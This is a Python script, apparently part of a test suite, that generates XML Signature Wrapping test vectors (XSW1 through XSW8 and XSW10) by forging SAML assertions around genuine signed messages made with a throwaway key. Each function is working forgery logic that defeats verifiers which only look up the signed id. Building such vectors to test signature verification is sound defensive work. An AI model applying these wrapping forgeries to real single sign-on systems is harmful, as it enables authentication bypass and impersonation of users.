"""Make the wrapping vectors beside this file, with a key that is thrown away: `python tests/xml/vectors/make.py`.

The attacks are those of "On Breaking SAML" (Somorovsky and others, 2012), with the numbers that SAML Raider gives
them. Each takes a genuine, signed message and forges another around it without the key: the bytes that were signed
are still somewhere in the document, so a verifier that only looks up the signed id is satisfied.
"""

from __future__ import annotations

import copy
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

from cryptography.hazmat.primitives.serialization import Encoding
from lxml import etree

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE.parents[1]))

from support import xml_messages as messages  # noqa: E402 the path above comes first

if TYPE_CHECKING:
    from collections.abc import Callable

SIGNATURE = f"{{{messages.DS}}}Signature"
OBJECT = f"{{{messages.DS}}}Object"
FORGED = "99999999"


class Message:
    """A genuine message, taken apart and put together by one attack."""

    def __init__(self, content: bytes, signed: str, id_name: str) -> None:
        self.root: Any = etree.fromstring(content)
        self.signed: Any = next(self.root.iter(signed))
        self.id_name = id_name

    def signature_of(self, element: Any) -> Any:
        """The signature that is a child of the element."""
        return element.find(SIGNATURE)

    def genuine(self) -> Any:
        """The signed element as it was digested: without its signature."""
        copied = copy.deepcopy(self.signed)
        copied.remove(self.signature_of(copied))
        return copied

    def forge(self, element: Any, *, keep_id: bool = False) -> Any:
        """Give an element another company, and an id of its own."""
        for value in element.iter():
            if value.text == "10101010":
                value.text = FORGED
        if not keep_id:
            element.set(self.id_name, "_forged")
        return element

    def forged_copy(self, *, keep_id: bool = False) -> Any:
        """A forged twin without a signature."""
        return self.forge(self.genuine(), keep_id=keep_id)

    def whole(self) -> Any:
        """The whole message as it was digested."""
        copied = copy.deepcopy(self.root)
        for signature in list(copied.iter(SIGNATURE)):
            signature.getparent().remove(signature)
        return copied


def xsw1(message: Message) -> None:
    """The forged message carries the whole original inside the signature."""
    original = message.whole()
    message.forge(message.signed)
    message.signature_of(message.signed).append(original)


def xsw2(message: Message) -> None:
    """The whole original stands beside the signature."""
    original = message.whole()
    message.forge(message.signed)
    message.signature_of(message.signed).addprevious(original)


def xsw3(message: Message) -> None:
    """A forged element before the genuine one."""
    message.signed.addprevious(message.forged_copy())


def xsw4(message: Message) -> None:
    """The genuine element inside the forged one."""
    forged = message.forged_copy()
    message.signed.addprevious(forged)
    forged.append(message.signed)


def xsw5(message: Message) -> None:
    """The forged element keeps the signature, the genuine one is appended."""
    original = message.genuine()
    message.forge(message.signed)
    message.signed.getparent().append(original)


def xsw6(message: Message) -> None:
    """The genuine element hidden inside the signature of the forged one."""
    original = message.genuine()
    message.forge(message.signed)
    message.signature_of(message.signed).append(original)


def xsw7(message: Message) -> None:
    """A forged element with the same id inside an extension."""
    extensions = etree.Element(f"{{{messages.SAMLP}}}Extensions")
    message.signed.addprevious(extensions)
    extensions.append(message.forged_copy(keep_id=True))


def xsw8(message: Message) -> None:
    """The genuine element inside a `ds:Object` of the forged one's signature."""
    original = message.genuine()
    message.forge(message.signed)
    holder = etree.SubElement(message.signature_of(message.signed), OBJECT)
    holder.append(original)


def xsw10(message: Message) -> None:
    """The signature copied up to the message, with an Object that holds the genuine element; the forged one bare."""
    signature = copy.deepcopy(message.signature_of(message.signed))
    etree.SubElement(signature, OBJECT).append(message.genuine())
    message.signed.remove(message.signature_of(message.signed))
    message.forge(message.signed)
    message.root.insert(0, signature)


ATTACKS: tuple[Callable[[Message], None], ...] = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8, xsw10)


def main() -> None:
    """Write both families and the certificate that signed them."""
    assertion = f"{{{messages.SAML}}}Assertion"
    families = {"saml": (messages.signed_response(), "ID"), "card": (messages.signed_card(), "id")}
    for family, (genuine, id_name) in families.items():
        folder = HERE / family
        folder.mkdir(exist_ok=True)
        (folder / "genuine.xml").write_bytes(genuine)
        for attack in ATTACKS:
            message = Message(genuine, assertion, id_name)
            attack(message)
            (folder / f"{attack.__name__}.xml").write_bytes(etree.tostring(message.root))
    certificate = messages.credential().certificate.public_bytes(Encoding.PEM)
    (HERE / "signer.txt").write_bytes(certificate)


if __name__ == "__main__":
    main()
